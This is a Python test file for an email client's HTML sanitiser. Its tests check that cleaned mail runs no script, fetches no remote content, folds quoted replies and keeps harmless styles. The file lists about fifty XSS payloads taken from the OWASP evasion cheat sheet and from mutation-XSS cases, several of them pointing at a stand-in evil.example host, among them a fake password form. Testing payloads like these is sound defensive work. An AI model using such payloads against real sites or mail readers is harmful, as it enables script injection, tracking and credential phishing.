"""A stranger's HTML runs nothing, fetches nothing and hides nothing it says (OWASP XSS Filter Evasion Cheat Sheet)."""

from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from koinon.inbox.mails import markup, quotes, styles

# After the headings of the cheat sheet, and what readers of mail were caught by since (CVE-2020-26870, mXSS).
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="javascript:alert(1)">',
    "<img src=JaVaScRiPt:alert(1)>",
    '<img """><script>alert(1)</script>">',
    '<img src=x onerror="alert(1)">',
    "<img src=/ onerror=alert(1)>",
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src=" &#14; javascript:alert(1);">',
    "<<script>alert(1);//<</script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<input type="image" src="javascript:alert(1)">',
    '<body background="javascript:alert(1)">',
    "<body onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import'https://evil.example/x.css';</style>",
    '<div style="background-image: url(https://evil.example/x.png)">x</div>',
    '<div style="background: #fff url(https://evil.example/x.png)">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="-moz-binding: url(https://evil.example/x.xml)">x</div>',
    '<div style="color: \\75 rl(https://evil.example/x)">x</div>',
    '<div style="list-style: url(https://evil.example/x.png)">x</div>',
    '<div style="font-family: x; src: url(https://evil.example/x.woff)">x</div>',
    '<div style="width: image-set(url(https://evil.example/x))">x</div>',
    '<div style="position: fixed; top: 0; left: 0; z-index: 9">x</div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="https://ok.example/" onclick="alert(1)" ping="https://evil.example/">x</a>',
    '<video src="https://evil.example/x.mp4" poster="https://evil.example/x.png"></video>',
    '<audio src="https://evil.example/x.mp3" autoplay></audio>',
    '<img srcset="https://evil.example/x.png 2x" src="https://evil.example/y.png" lowsrc="https://evil.example/z.png">',
    '<picture><source srcset="https://evil.example/x.png"></picture>',
    '<table background="https://evil.example/x.png"><tr><td background="https://evil.example/y.png">x</td></tr></table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    '<details open ontoggle="alert(1)">x</details>',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "<div data-hx-get='/inbox' hx-get='/sign-out' id='items' class='dialog'>x</div>",
]
ALLOWED = {"style", "dir", "lang", "title", "align", "valign", "width", "height", "bgcolor", "href", "src", "alt",
           "border", "color", "face", "size", "cellpadding", "cellspacing", "colspan", "rowspan", "start", "type",
           "target", "rel"}  # fmt: skip


class Seen(HTMLParser):
    """What a second parser finds in what is shown."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def faults(html: str | None, *, with_pictures: bool = False) -> Iterator[str]:
    """What in a cleaned mail could run or fetch."""
    for tag, attributes in Seen(html or "").tags:
        if tag not in markup.TAGS:
            yield f"<{tag}>"
        for name, value in attributes.items():
            told = value.strip().lower()
            if name not in ALLOWED:
                yield f"{tag} {name}"
            if name == "href" and not told.startswith(("https://", "http://", "mailto:", "tel:")):
                yield f"href {told}"
            if name == "src" and not told.startswith(("data:image/", *(("http:", "https:") if with_pictures else ()))):
                yield f"src {told}"
            if name == "style" and any(bad in told for bad in ("url", "expression", "\\", "position", "binding", "@")):
                yield f"style {told}"


@pytest.mark.parametrize("vector", VECTORS)
@pytest.mark.parametrize("with_pictures", [False, True])
def test_nothing_of_it_runs_or_fetches(vector: str, with_pictures: bool) -> None:
    shown = markup.cleaned(f"<p>Hello</p>{vector}<p>Bye</p>", {}, with_pictures=with_pictures)
    assert shown is not None
    assert list(faults(shown, with_pictures=with_pictures)) == []
    assert "Hello" in shown
    assert "alert(1)" not in shown or "<" not in shown.split("alert(1)")[0][-1:]


PIECES = st.sampled_from(
    [*VECTORS, "<div>", "</div>", "<p>", "<b>", "</b>", "<table>", "<td>", "</td>", "<blockquote type=cite>",
     "</blockquote>", "<div class=gmail_quote>",
     '"', "'", "<", ">", "&", "&lt;", "<!--", "-->", "<![CDATA[", "]]>", "\x00", "é", "text"]
)  # fmt: skip


@given(st.lists(st.one_of(PIECES, st.text(max_size=12)), max_size=12).map("".join))
def test_however_the_pieces_are_put_together(html: str) -> None:
    assert list(faults(markup.cleaned(html, {}, with_pictures=False))) == []


def test_pictures_of_elsewhere_are_shown_when_asked_for_but_for_dots_that_count() -> None:
    html = (
        '<img src="https://shop.example/banner.png?a=1&amp;b=2" width="600" alt="Bread > cake">'
        '<img src="https://shop.example/open.gif" width="1" height="1"><img src="http://shop.example/o.gif" height="0">'
    )
    hidden = markup.cleaned(html, {}, with_pictures=False)
    shown = markup.cleaned(html, {}, with_pictures=True)
    assert [one for _, one in Seen(hidden or "").tags if "src" in one] == []
    assert "Bread" in (hidden or "")
    assert [one["src"] for _, one in Seen(shown or "").tags if "src" in one] == [
        "https://shop.example/banner.png?a=1&b=2"
    ]


def test_pictures_of_the_mail_itself_stand_where_it_names_them() -> None:
    """RFC 2392: `cid:` is the Content-ID, percent-encoded."""
    own = {"logo@shop": "data:image/png;base64,AAAA"}
    shown = markup.cleaned('<img src="cid:logo%40shop"><img src="CID:unknown">', own, with_pictures=False)
    assert [one.get("src") for _, one in Seen(shown or "").tags] == ["data:image/png;base64,AAAA"]


def test_links_open_elsewhere_and_tell_nothing() -> None:
    shown = markup.cleaned('<a href="https://shop.example/">Shop</a>', {}, with_pictures=False)
    [(_, link)] = Seen(shown or "").tags
    assert link["target"] == "_blank"
    assert {"noopener", "noreferrer"} <= set(link["rel"].split())


GMAIL = (
    '<div dir="ltr">Yes, two.</div><br><div class="gmail_quote"><div>On Monday Ana wrote:</div>'
    "<blockquote>How many?</blockquote></div>"
)
APPLE = '<div>Yes, two.<br><blockquote type="cite"><div>How many?</div></blockquote>And juice.</div>'
OUTLOOK = '<div>Yes, two.</div><div id="divRplyFwdMsg"><b>From:</b> Ana</div><div>How many?</div>'


@pytest.mark.parametrize("html", [GMAIL, APPLE, OUTLOOK])
def test_what_is_quoted_is_folded_and_what_is_said_is_not(html: str) -> None:
    shown = markup.cleaned(html, {}, with_pictures=False, quoted="Quoted text") or ""
    before, _, folded = shown.partition("<details><summary>Quoted text</summary>")
    within, _, after = folded.partition("</details>")
    assert "Yes, two." in before
    assert "How many?" in within
    assert "juice" not in within
    assert ("juice" in after) is ("juice" in html)


def test_a_mail_that_is_all_quotation_is_shown_whole() -> None:
    assert quotes.quotes_in('<div class="gmail_quote"><blockquote>Forwarded</blockquote></div>') == []


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color:#fff;background:#036", "color: #fff; background-color: #036"),
        ("background: url('a.png') no-repeat center top #036", "background-color: #036"),
        (
            "font-family:'Segoe UI',Arial,sans-serif;mso-line-height-rule:exactly",
            "font-family: 'Segoe UI',Arial,sans-serif",
        ),
        ("color: rgb(0, 0, 0) !important", "color: rgb(0, 0, 0) !important"),
        ("display:none;max-height:0", "display: none; max-height: 0"),
        ("color: red/**/; width: calc(100% - 8px)", "width: calc(100% - 8px)"),
    ],
)
def test_the_styles_that_mails_are_made_of_stay(style: str, kept: str) -> None:
    assert styles.safe(style) == kept


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 50_000,
        "".join(f'<font color="#{n:06x}">' for n in range(31)) + "<p>x" * 1_000,
        "<p>x" * 60_000,
    ],
)
def test_what_would_take_minutes_is_not_taken_apart(html: str) -> None:
    assert markup.cleaned(html, {}, with_pictures=False) is None


def test_the_policy_lets_no_script_and_no_picture_in() -> None:
    """HTML §4.8.5: without allow-scripts and allow-same-origin; CSP 3 §6.1."""
    for with_pictures in (False, True):
        rules = {
            name: values
            for name, *values in (one.split() for one in markup.policy(with_pictures=with_pictures).split(";"))
        }
        assert set(rules["sandbox"]) == {"allow-popups", "allow-popups-to-escape-sandbox"}
        assert rules["default-src"] == ["'none'"]
        assert "script-src" not in rules
        assert rules["img-src"] == (["data:", "https:", "http:"] if with_pictures else ["data:"])


@pytest.mark.parametrize("tag", ["<img src=", "<a href=", '<img src="', "<a href = '", "<img src"])
def test_blanks_behind_an_attribute_are_passed_over_once(tag: str) -> None:
    html = tag + " " * 300_000  # read with two runs of blanks side by side, it takes a quarter of an hour
    assert not markup.fetches(html)
    assert not markup.is_rich(html.replace("<img", "<a"), "")


@pytest.mark.parametrize("tag", ['<img src = " https://a.example/x">', "<img src=http://a.example/x>"])
def test_pictures_from_elsewhere_are_known_however_they_are_written(tag: str) -> None:
    assert markup.fetches(tag)
